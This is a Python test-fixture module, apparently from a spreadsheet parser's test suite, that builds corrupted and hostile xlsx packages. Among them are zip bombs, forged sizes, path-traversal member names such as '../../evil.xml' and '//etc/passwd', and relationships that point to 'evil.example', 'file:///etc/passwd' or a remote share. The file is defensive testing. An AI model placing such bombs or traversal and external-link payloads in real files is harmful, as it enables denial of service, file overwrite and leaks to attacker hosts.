"""Packages whose zip lies, whose parts are missing, or whose relationships lead astray."""

# ruff: noqa: E501 (XML reads best on one line)

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

from books import parts
from hostile_base import (
    BOOK,
    CENTRAL,
    CORE,
    CUSTOMERS,
    END,
    LINKS,
    LOCAL,
    OFFICE,
    ROOT,
    SHEET_LINKS,
    STYLES,
    TABLE,
    TEXTS,
    TYPES,
    changed,
    good,
    noise,
    place_of,
    poked,
    record,
    with_members,
    zipped,
)  # fmt: skip

ZEROS = 1 << 26  # bytes of nothing


def end() -> int:
    return good().rindex(END)


def dense(size: int) -> bytes:
    """Deflated zeros."""
    engine, piece = zlib.compressobj(9, zlib.DEFLATED, -15), bytes(1 << 20)
    return b"".join([*(engine.compress(piece) for _ in range(size >> 20)), engine.flush()])


def bomb(size: int, told: int) -> bytes:
    """The good workbook with one more member: deflated zeros, which it says unfold to so many bytes."""
    name, body = b"xl/media/image9.png", dense(size)
    crc = 0
    for _ in range(size >> 20):
        crc = zlib.crc32(bytes(1 << 20), crc)
    return appended(name, body, crc, told)


def appended(name: bytes, body: bytes, crc: int, told: int) -> bytes:
    data, at = good(), end()
    count, size, directory = struct.unpack_from("<HII", data, at + 10)
    local = struct.pack("<4s5H3I2H", LOCAL, 20, 0, 8, 0, 33, crc, len(body), told, len(name), 0) + name + body
    entry = struct.pack("<4s6H3I5H2I", CENTRAL, 20, 20, 0, 8, 0, 33, crc, len(body), told, len(name), 0, 0, 0, 0, 0, directory)  # fmt: skip
    tail = struct.pack("<4s4H2IH", END, 0, 0, count + 1, count + 1, size + len(entry) + len(name), directory + len(local), 0)  # fmt: skip
    return data[:directory] + local + data[directory : directory + size] + entry + name + tail


def overlapping() -> bytes:
    """Two members in one place."""
    first = struct.unpack_from("<I", good(), place_of(good(), CUSTOMERS, CENTRAL) + 42)[0]
    return record(TABLE, 42, "<I", first)


def two_names() -> bytes:
    """The header of a member calls it something else than the directory does."""
    at = place_of(good(), CUSTOMERS, LOCAL) + 30
    return good()[:at] + CUSTOMERS.replace("sheet5", "sheetX").encode() + good()[at + len(CUSTOMERS) :]


def wrong_sum() -> bytes:
    """One bit of the compressed customers is another."""
    data = bytearray(zipped(parts(good()).items(), zipfile.ZIP_STORED))
    data[data.index(b"Marsh", place_of(bytes(data), CUSTOMERS, LOCAL))] ^= 1
    return bytes(data)


def fewer() -> bytes:
    """The end counts fewer members than the directory holds."""
    count = struct.unpack_from("<H", good(), end() + 10)[0]
    return poked(poked(good(), end() + 8, "<H", count - 3), end() + 10, "<H", count - 3)


def second_end() -> bytes:
    """A comment that looks like the end of another zip."""
    fake = struct.pack("<4s4H2IH", END, 0, 0, 0, 0, 0, 0, 0)
    data = poked(good(), end() + 20, "<H", len(fake))
    return data + fake


def zip64() -> bytes:
    """Sizes that stand in a field that says 16 EiB."""
    data = record(CUSTOMERS, 24, "<I", 0xFFFFFFFF)
    at = place_of(data, CUSTOMERS, CENTRAL)
    name = struct.unpack_from("<H", data, at + 28)[0]
    extra = struct.pack("<2HQ", 1, 8, (1 << 64) - 1)
    data = poked(data, at + 30, "<H", len(extra))
    cut = at + 46 + name
    data = data[:cut] + extra + data[cut:]
    size = struct.unpack_from("<I", data, data.rindex(END) + 12)[0]
    return poked(data, data.rindex(END) + 12, "<I", size + len(extra))


def three_gibibytes() -> bytes:
    """Four parts that say they unfold to three quarters of a gibibyte each."""
    data = good()
    for name in (CUSTOMERS, TEXTS, STYLES, BOOK):
        data = poked(data, place_of(data, name, CENTRAL) + 24, "<I", 3 << 28)
    return data


def without(*names: str) -> Callable[[], bytes]:
    return lambda: with_members(without=names)


def extra(name: str) -> Callable[[], bytes]:
    return lambda: with_members([(name, b"<x/>")])


def other_method(method: int) -> bytes:
    members = parts(good())
    held = members.pop(CUSTOMERS)
    out = zipped(members.items())
    made = io.BytesIO(out)
    with zipfile.ZipFile(made, "a") as package:
        package.writestr(CUSTOMERS, held, method)
    return made.getvalue()


def linked(part: str, kind: str, target: str, mode: str = "") -> bytes:
    """One more relationship."""
    said = f' TargetMode="{mode}"' if mode else ""
    link = f'<Relationship Id="rId777" Type="{OFFICE}/{kind}" Target="{target}"{said}/></Relationships>'
    return changed(part, ("</Relationships>", link))


FILES: Mapping[str, Callable[[], bytes]] = {
    "cut in half": lambda: good()[: len(good()) // 2],
    "cut by ten bytes": lambda: good()[:-10],
    "cut to its head": lambda: good()[:30],
    "head lost": lambda: good()[100:],
    "middle lost": lambda: good()[:3000] + good()[6000:],
    "zeros at the end": lambda: good()[: len(good()) // 2].ljust(len(good()), b"\0"),
    "zeros behind": lambda: good() + bytes(500),
    "lines in between": lambda: good().replace(b"\n", b"\r\n"),
    "second end": second_end,
    "wrong sum": wrong_sum,
    "larger than it says": lambda: record(CUSTOMERS, 24, "<I", 1000),
    "smaller than it says": lambda: record(CUSTOMERS, 24, "<I", 900_000),
    "packed beyond the file": lambda: record(CUSTOMERS, 20, "<I", 100_000_000),
    "elsewhere": lambda: record(CUSTOMERS, 42, "<I", 17),
    "encrypted member": lambda: record(CUSTOMERS, 8, "<H", 1),
    "overlap": overlapping,
    "two names": two_names,
    "fewer than there are": fewer,
    "directory elsewhere": lambda: poked(good(), end() + 16, "<I", 40),
    "16 exbibytes": zip64,
    "lzma": lambda: other_method(zipfile.ZIP_LZMA),
    "bzip2": lambda: other_method(zipfile.ZIP_BZIP2),
    "bomb by ratio": lambda: bomb(ZEROS, ZEROS),
    "bomb that denies": lambda: bomb(ZEROS, 1000),
    "bomb in the sheet": lambda: changed(CUSTOMERS, ("<sheetData>", "<sheetData>" + " " * ZEROS)),
    "three gibibytes in all": three_gibibytes,
    "60,000 members": lambda: with_members((f"customXml/item{i}.xml", b"<x/>") for i in range(60_000)),
    "same name twice": extra(CUSTOMERS),
    "same name in capitals": extra(CUSTOMERS.upper()),
    "same name in percent": extra(CUSTOMERS.replace("sheet4", "%73heet4")),
    "name up": extra("../../evil.xml"),
    "name up by backslash": extra("..\\..\\evil.xml"),
    "name at the root": extra("//etc/passwd"),
    "name of a drive": extra("C:\\Windows\\evil.dll"),
    "name of a stream": extra("xl/workbook.xml:evil"),
    "no types": without(TYPES),
    "no root relationships": without(ROOT),
    "no workbook": without(BOOK),
    "no workbook relationships": without(LINKS),
    "no customers sheet": without(CUSTOMERS),
    "no customers table": without(TABLE),
    "no texts": without(TEXTS),
    "no styles": without(STYLES),
    "no properties": without(CORE),
    "sheet elsewhere": lambda: changed(LINKS, ("worksheets/sheet5.xml", "http://evil.example/sheet5.xml")),
    "sheet outside": lambda: changed(LINKS, ("worksheets/sheet5.xml", "../../../../etc/passwd")),
    "sheet external": lambda: changed(LINKS, ('Target="worksheets/sheet5.xml"', 'Target="file:///etc/passwd" TargetMode="External"')),
    "sheet is the workbook": lambda: changed(LINKS, ("worksheets/sheet5.xml", "workbook.xml")),
    "sheet is the texts": lambda: changed(LINKS, ("worksheets/sheet5.xml", "sharedStrings.xml")),
    "two sheets in one part": lambda: changed(LINKS, ("worksheets/sheet6.xml", "worksheets/sheet5.xml")),
    "workbook is its relationships": lambda: changed(ROOT, ("xl/workbook.xml", "_rels/.rels")),
    "circle of relationships": lambda: linked(SHEET_LINKS, "table", "../workbook.xml"),
    "table is the sheet": lambda: linked(SHEET_LINKS, "table", "../worksheets/sheet5.xml"),
    "link to a share": lambda: linked(SHEET_LINKS, "externalLinkPath", "file://evil.example/share/x.xlsx", "External"),
    "template from afar": lambda: linked(LINKS, "attachedTemplate", "http://evil.example/x.dotm", "External"),
    "a quarter million relationships": lambda: changed(LINKS, ("</Relationships>", "".join(f'<Relationship Id="x{i}" Type="a" Target="b"/>' for i in range(250_000)) + "</Relationships>")),
    "styles of 20 mebibytes": lambda: changed(STYLES, ("</styleSheet>", "<!--" + noise(20 << 20) + "--></styleSheet>")),
    "workbook of 33 mebibytes": lambda: changed(BOOK, ("</workbook>", "<!--" + noise(33 << 20) + "--></workbook>")),
}  # fmt: skip
